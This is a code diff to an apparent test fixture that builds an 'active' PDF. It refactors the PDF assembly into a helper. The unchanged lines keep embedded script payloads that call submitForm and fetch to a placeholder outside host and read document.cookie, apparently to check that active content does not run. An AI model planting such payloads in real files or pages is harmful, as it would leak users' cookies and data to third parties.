@@ -1,4 +1,5 @@
 import { ELSEWHERE, RAN } from "./hostile-files.ts";
+import { pdfOf } from "./pdf.ts";
 
 const CODE = `console.println("${RAN}");app.alert("${RAN}");this.submitForm("${ELSEWHERE}/told")`;
 const MARKUP = `<html><script>console.log("${RAN}");fetch("${ELSEWHERE}/told");alert(document.cookie)</script></html>`;
@@ -24,13 +25,5 @@ export function activePdf(): Uint8Array<ArrayBuffer> {
 		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
 		...pages,
 	];
-	let body = `%PDF-1.4\n%${MARKUP}\n`;
-	const places = objects.map((object, index) => {
-		const place = body.length;
-		body += `${index + 1} 0 obj\n${object}\nendobj\n`;
-		return `${String(place).padStart(10, "0")} 00000 n \n`;
-	});
-	const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join("")}`;
-	const end = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`;
-	return new TextEncoder().encode(body + table + end);
+	return pdfOf(objects, MARKUP);
 }
